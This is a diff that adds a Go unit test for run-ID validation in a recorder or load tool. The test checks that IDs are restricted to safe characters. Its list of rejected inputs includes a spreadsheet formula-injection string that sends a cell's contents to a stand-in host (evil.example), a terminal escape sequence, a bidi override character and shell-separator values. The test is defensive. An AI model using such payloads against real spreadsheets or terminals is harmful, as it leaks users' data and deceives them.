@@ -288,6 +288,31 @@ func TestShardValidate(t *testing.T) {
 	}
 }
 
+// TestValidRunID: a run id is 1 to 128 letters, digits, '.', '_' and '-',
+// starting with a letter or a digit; the ids the recorder makes itself
+// (derived and random) are such ids. Nothing a spreadsheet runs as a
+// formula, a terminal as an escape or a shell as an option passes.
+func TestValidRunID(t *testing.T) {
+	for _, id := range []string{"v2-soak", "model-v2-2026-12-01", "a", "0", "A.b_c-1", strings.Repeat("x", MaxRunIDLen),
+		newRunID(), derivedRunID(&Config{Shard: Sharding{Count: 3, StartAt: time.Now()}}, "http://h:1")} {
+		if !ValidRunID(id) {
+			t.Errorf("ValidRunID(%q) = false", id)
+		}
+	}
+	for _, id := range []string{"", `=HYPERLINK("http://evil.example/?"&A3,"open")`, "+1", "-x", "@SUM(1)", ".hidden", "_x",
+		"a b", "a\tb", "a\x1b[2Jb", "a/b", "a;b", "a,b", "a'b", "é", "a\u202eb", strings.Repeat("x", MaxRunIDLen+1)} {
+		if ValidRunID(id) {
+			t.Errorf("ValidRunID(%q) = true", id)
+		}
+		cfg := engineConfig()
+		cfg.Shard.RunID = id
+		var fe *FieldError
+		if err := cfg.Validate(); id != "" && (!errors.As(err, &fe) || fe.Field != "Shard.RunID") {
+			t.Errorf("Validate with run id %q: %v", id, err)
+		}
+	}
+}
+
 // TestShardRunID: shards with the same flags derive the same id; another
 // start, shape or target gives another; --run-id wins; an unsharded run
 // without start-at gets a fresh one.
